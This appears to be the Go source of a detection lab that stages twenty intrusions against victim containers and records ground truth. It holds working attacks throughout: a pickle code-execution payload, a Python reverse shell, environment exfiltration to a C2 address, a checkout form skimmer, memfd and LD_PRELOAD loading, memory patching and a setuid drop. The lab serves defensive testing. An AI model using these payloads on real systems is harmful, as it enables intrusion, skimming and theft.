package lab

import (
	"context"
	"encoding/base64"
	"encoding/binary"
	"errors"
	"fmt"
	"math"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"time"
)

// Attacks are all that the lab can do.
func Attacks() []Attack {
	return []Attack{
		{"drop", "goweb", false, "upload a static ELF program, have it run, it calls out under a kernel thread's name", planted()},
		{"deleted", "goweb", false, "the same, and the program deletes its file", planted("-delete")},
		{"memfd", "goweb", false, "the same, and the program runs on from a memory file", planted("-delete", "-mode", "memfd")},
		{"hold", "goweb", false, "the program keeps a second stage in a memory file that it does not run", held},
		{"stdio", "goweb", false, "a reverse shell's descriptors: the socket on 0, 1 and 2", planted("-delete", "-mode", "stdio")},
		{"listen", "goweb", false, "the program listens on a port, as a bind shell does", listening},
		{"patch", "goweb", false, "the program overwrites text of process 1 through /proc/1/mem", planted("-delete", "-mode", "patch")},
		{"shm", "goweb", false, "loot and a copy of the program are staged in /dev/shm", staged},
		{"skim", "goweb", true, "a script of the application is overwritten with one that skims", skimmed},
		{"setuid", "goweb", true, "a setuid program is left for later", setuid},
		{"mine", "goweb", false, "a dropped program speaks stratum with a pool and burns a bounded share of a processor", mined},
		{"py-inproc", "pyweb", false, "code runs in the interpreter itself and calls out", pythonInProcess},
		{"py-shell", "pyweb", false, "a reverse shell in Python: a child with the socket on 0, 1 and 2", pythonShell},
		{"py-memfd", "pyweb", false, "a static ELF program runs from a memory file", pythonMemfd},
		{"py-preload", "pyweb", false, "a child interpreter runs with LD_PRELOAD", pythonPreload},
		{"py-library", "pyweb", false, "the interpreter loads a library from a memory file", pythonLibrary},
		{"py-text", "pyweb", false, "the interpreter overwrites its own text through /proc/self/mem", pythonText},
		{"py-replace", "pyweb", true, "the application's source is replaced", pythonReplace},
		{"node-inproc", "nodeweb", false, "code runs in Node itself and calls out", nodeInProcess},
		{"node-drop", "nodeweb", false, "a static ELF program is written, run and deleted", nodeDrop},
	}
}

func planted(opts ...string) func(context.Context, *intrusion) error {
	return func(ctx context.Context, b *intrusion) error {
		if err := b.plant(ctx, opts...); err != nil {
			return err
		}
		if strings.HasPrefix(b.truth.Exe, "/memfd:") {
			b.truth.Memfd = "kworker"
		}
		return nil
	}
}

func mined(ctx context.Context, b *intrusion) error {
	return b.plantProgram(ctx, "miner", "-pool", b.c2.Addr, "-share", "60", "-for", "8s")
}

func held(ctx context.Context, b *intrusion) error {
	b.truth.Memfd = "stage2"
	return b.plant(ctx, "-delete", "-mode", "hold")
}

func listening(ctx context.Context, b *intrusion) error {
	host, _, err := net.SplitHostPort(b.c.Addr)
	if err != nil {
		return err
	}
	port := "4445"
	if b.c.Spec.HostNetwork {
		l, err := net.Listen("tcp4", host+":0")
		if err != nil {
			return err
		}
		_, port, _ = net.SplitHostPort(l.Addr().String())
		l.Close()
	}
	b.truth.Listen = net.JoinHostPort(host, port)
	return b.plant(ctx, "-delete", "-listen", b.truth.Listen)
}

func staged(ctx context.Context, b *intrusion) error {
	b.truth.Dropped = append(b.truth.Dropped, "/dev/shm/.env", "/dev/shm/.stage")
	return b.plant(ctx, "-delete", "-mode", "stage", "-stage", "/dev/shm")
}

const skimmer = "document.forms[0].addEventListener('submit',e=>navigator.sendBeacon('http://%s/s',new FormData(e.target)));\n"

func skimmed(ctx context.Context, b *intrusion) error {
	script := fmt.Appendf(nil, skimmer, b.c2.Addr)
	b.truth.SHA256 = digest(script)
	b.truth.Replaced = append(b.truth.Replaced, "/app/static/checkout.js")
	return b.upload(ctx, "/app/static/checkout.js", script, "644")
}

func setuid(ctx context.Context, b *intrusion) error {
	bin, err := b.implant(ctx)
	if err != nil {
		return err
	}
	b.truth.Dropped = append(b.truth.Dropped, "/usr/bin/su-helper")
	return b.upload(ctx, "/usr/bin/su-helper", bin, "4755")
}

// pickle wraps Python code in a pickle that runs it: exec(code), by the opcodes GLOBAL, MARK, BINUNICODE, TUPLE,
// REDUCE, STOP. See https://docs.python.org/3/library/pickletools.html
func pickle(code string) []byte {
	b := []byte("cbuiltins\nexec\n(X")
	b = binary.LittleEndian.AppendUint32(b, uint32(len(code)))
	return append(append(b, code...), "tR."...)
}

func (b *intrusion) python(ctx context.Context, code string) error {
	host, port, err := net.SplitHostPort(b.c2.Addr)
	if err != nil {
		return err
	}
	code = strings.NewReplacer("$HOST", host, "$PORT", port).Replace(code)
	return b.request(ctx, http.MethodPost, "/session", pickle(code), http.StatusOK)
}

// The greeting is what the implant's would be. exec gets a dictionary of its own, so that names in nested
// functions are found.
const pythonCall = `
import os, socket
s = socket.create_connection(("$HOST", $PORT))
s.sendall(("HELLO pid=%d mode=MODE exe=%s\n" % (os.getpid(), os.readlink("/proc/self/exe").replace(" ", "_"))).encode())
`

func pythonInProcess(ctx context.Context, b *intrusion) error {
	code := strings.ReplaceAll(pythonCall, "MODE", "inproc") + `
s.sendall(("\n".join(k + "=" + v for k, v in os.environ.items())).encode())
import threading
import builtins
builtins._keep = s
threading.Thread(target=lambda: s.recv(64), daemon=True, name="pool-worker").start()
`
	if err := b.python(ctx, "exec("+quotePython(code)+", {})"); err != nil {
		return err
	}
	return b.called(ctx)
}

func pythonShell(ctx context.Context, b *intrusion) error {
	code := `
import os
if os.fork() == 0:
    try:
        os.setsid()
` + indent(strings.ReplaceAll(pythonCall, "MODE", "shell"), "        ") + `
        for fd in (0, 1, 2):
            os.dup2(s.fileno(), fd)
        while True:
            line = s.recv(4096)
            if not line or line.strip() == b"exit":
                break
    finally:
        os._exit(0)
`
	if err := b.python(ctx, "exec("+quotePython(code)+", {})"); err != nil {
		return err
	}
	return b.called(ctx)
}

func pythonMemfd(ctx context.Context, b *intrusion) error {
	bin, err := b.implant(ctx)
	if err != nil {
		return err
	}
	code := `
import os, base64
fd = os.memfd_create("pool")
os.write(fd, base64.b64decode(DATA))
if os.fork() == 0:
    os.setsid()
    os.execve("/proc/self/fd/%d" % fd, ["python3.11", "-c2", "$HOST:$PORT", "-send", "4096"], dict(os.environ))
os.close(fd)
`
	code = strings.ReplaceAll(code, "DATA", `"`+base64.StdEncoding.EncodeToString(bin)+`"`)
	if err := b.python(ctx, "exec("+quotePython(code)+", {})"); err != nil {
		return err
	}
	b.truth.Memfd = "pool"
	return b.called(ctx)
}

func pythonPreload(ctx context.Context, b *intrusion) error {
	hook, err := b.lab.hook(ctx)
	if err != nil {
		return err
	}
	b.truth.SHA256 = digest(hook)
	b.truth.Dropped = append(b.truth.Dropped, "/data/plugins/libaudit.so")
	child := strings.ReplaceAll(pythonCall, "MODE", "preload") + "s.recv(64)\n"
	code := `
import os, base64
with open("/data/plugins/libaudit.so", "wb") as f:
    f.write(base64.b64decode(DATA))
os.posix_spawn("/usr/bin/python3.11", ["/usr/bin/python3.11", "-c", CHILD], {**os.environ, "LD_PRELOAD": "/data/plugins/libaudit.so"})
`
	code = strings.NewReplacer("DATA", `"`+base64.StdEncoding.EncodeToString(hook)+`"`, "CHILD", quotePython(child)).Replace(code)
	if err := b.python(ctx, "exec("+quotePython(code)+", {})"); err != nil {
		return err
	}
	return b.called(ctx)
}

func pythonLibrary(ctx context.Context, b *intrusion) error {
	hook, err := b.lab.hook(ctx)
	if err != nil {
		return err
	}
	b.truth.SHA256 = digest(hook)
	b.truth.Memfd = "jit-cache"
	code := `
import os, base64, ctypes, builtins
fd = os.memfd_create("jit-cache")
os.write(fd, base64.b64decode(DATA))
builtins._lib = ctypes.CDLL("/proc/self/fd/%d" % fd)
os.close(fd)
` + strings.ReplaceAll(pythonCall, "MODE", "library") + `
builtins._keep = s
`
	code = strings.ReplaceAll(code, "DATA", `"`+base64.StdEncoding.EncodeToString(hook)+`"`)
	if err := b.python(ctx, "exec("+quotePython(code)+", {})"); err != nil {
		return err
	}
	return b.called(ctx)
}

func pythonText(ctx context.Context, b *intrusion) error {
	// The last bytes of .text, where nothing that runs lies; the section's place is read from the ELF header.
	code := `
import os, struct
exe = os.readlink("/proc/self/exe")
with open(exe, "rb") as f:
    head = f.read(64)
    shoff, = struct.unpack_from("<Q", head, 40)
    size, count, names = struct.unpack_from("<HHH", head, 58)
    f.seek(shoff)
    table = f.read(size * count)
    rows = [struct.unpack_from("<IIQQQQ", table, i * size) for i in range(count)]
    f.seek(rows[names][4])
    strings = f.read(rows[names][5])
kind, flags, addr, off, length = next(r[1:] for r in rows if strings[r[0]:].startswith(b".text\0"))
with open("/proc/self/maps") as f:
    maps = [l.split() for l in f if l.rstrip().endswith(exe)]
at = None
for m in maps:
    lo, hi = (int(x, 16) for x in m[0].split("-"))
    start = int(m[2], 16)
    if "x" in m[1] and start <= off < start + hi - lo:
        at = lo + off - start + length - 48
fd = os.open("/proc/self/mem", os.O_RDWR)
os.pwrite(fd, b"\xcc\xccSHERD-LAB-HK\xcc\xcc", at)
os.close(fd)
` + strings.ReplaceAll(pythonCall, "MODE", "text patched=%#x") + `
import builtins
builtins._keep = s
`
	code = strings.Replace(code, "(os.getpid(), os", "(os.getpid(), at, os", 1)
	if err := b.python(ctx, "exec("+quotePython(code)+", {})"); err != nil {
		return err
	}
	return b.called(ctx)
}

func pythonReplace(ctx context.Context, b *intrusion) error {
	src, err := source()
	if err != nil {
		return err
	}
	app, err := os.ReadFile(filepath.Join(src, "victims", "pyweb", "app.py"))
	if err != nil {
		return err
	}
	app = append(app, "\n# a line that was not there: a back door would be\n"...)
	b.truth.SHA256 = digest(app)
	b.truth.Replaced = append(b.truth.Replaced, "/app/app.py")
	code := `
import base64
with open("/app/app.py", "wb") as f:
    f.write(base64.b64decode("` + base64.StdEncoding.EncodeToString(app) + `"))
`
	return b.python(ctx, "exec("+quotePython(code)+", {})")
}

// quotePython writes s as a Python string literal.
func quotePython(s string) string {
	return `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`).Replace(s) + `"`
}

func indent(s, by string) string {
	return by + strings.ReplaceAll(strings.TrimSpace(s), "\n", "\n"+by)
}

func (b *intrusion) node(ctx context.Context, code string) error {
	host, port, err := net.SplitHostPort(b.c2.Addr)
	if err != nil {
		return err
	}
	code = strings.NewReplacer("$HOST", host, "$PORT", port).Replace(code)
	return b.request(ctx, http.MethodPost, "/render", []byte(code), http.StatusOK)
}

func nodeInProcess(ctx context.Context, b *intrusion) error {
	const code = `(() => {
  const s = require('net').connect($PORT, '$HOST', () => {
    s.write('HELLO pid=' + process.pid + ' mode=inproc exe=' + process.execPath + '\n' + JSON.stringify(process.env));
  });
  s.on('error', () => {});
  globalThis.__keep = s;
  return 'ok';
})()`
	if err := b.node(ctx, code); err != nil {
		return err
	}
	return b.called(ctx)
}

func nodeDrop(ctx context.Context, b *intrusion) error {
	bin, err := b.implant(ctx)
	if err != nil {
		return err
	}
	code := `(() => {
  const fs = require('fs');
  fs.writeFileSync('/tmp/.cache', Buffer.from('` + base64.StdEncoding.EncodeToString(bin) + `', 'base64'), { mode: 0o755 });
  require('child_process').spawn('/tmp/.cache', ['-c2', '$HOST:$PORT', '-delete', '-name', 'node', '-send', '2048'], { detached: true, stdio: 'ignore' }).unref();
  return 'ok';
})()`
	if err := b.node(ctx, code); err != nil {
		return err
	}
	b.truth.Deleted = append(b.truth.Deleted, "/tmp/.cache")
	return b.called(ctx)
}

// hook compiles the library for LD_PRELOAD.
func (l *Lab) hook(ctx context.Context) ([]byte, error) {
	unlock, err := l.lock(ctx)
	if err != nil {
		return nil, err
	}
	defer unlock()
	return l.compileC(ctx, "hook.so", filepath.Join("victims", "preload", "hook.c"), "-shared", "-fPIC")
}

// Busy puts an honest load on a victim until ctx ends: requests side by side, pages that it caches, paths that do
// not exist. The victim should run with BUSY=1, which makes it rotate a log. It returns how many were answered.
func (c *Container) Busy(ctx context.Context) (int, error) {
	return c.busy(ctx, 4, loadPause, math.MaxInt)
}

// loadPause is what a client waits between two requests.
const loadPause = 5 * time.Millisecond

// busy is Busy with as many clients, which wait between two requests, until so many are answered.
func (c *Container) busy(ctx context.Context, clients int, pause time.Duration, most int) (int, error) {
	type result struct {
		n   int
		err error
	}
	done := make(chan result, clients)
	for i := range clients {
		go func() {
			n := 0
			for ctx.Err() == nil && n < most/clients {
				path := fmt.Sprintf("/?item=%d", (n*clients+i)%200)
				if n%17 == 16 {
					path = "/favicon.ico"
				}
				if _, _, err := c.Get(path); err != nil {
					done <- result{n, err}
					return
				}
				n++
				time.Sleep(pause)
			}
			done <- result{n, nil}
		}()
	}
	total := 0
	var errs error
	for range clients {
		r := <-done
		total += r.n
		errs = errors.Join(errs, r.err)
	}
	return total, errs
}
